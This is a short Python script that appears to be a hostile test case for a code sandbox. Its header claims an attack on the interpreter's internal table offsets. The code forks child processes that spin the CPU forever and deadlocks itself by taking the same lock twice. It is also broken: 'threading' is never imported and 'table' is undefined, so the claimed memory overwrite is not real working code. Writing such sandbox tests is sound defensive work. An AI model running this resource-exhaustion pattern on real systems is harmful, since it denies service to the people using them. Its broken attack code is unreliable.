# /// hostile
# attack = "The interpreter's own table has offsets that no number of ours can hold, and the program then uses what it likes."
# uses = "forged_python.py"
# python = ["3.13t", "3.14"]
# reason = "cpu"
# beside = "patient.py"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os

lock = threading.Lock()
lock.acquire()
for word in range(8, 54):
    table(word).value = -1
print("overwritten", flush=True)
for _ in range(3):
    if os.fork() == 0:
        while True:
            pass
lock.acquire()
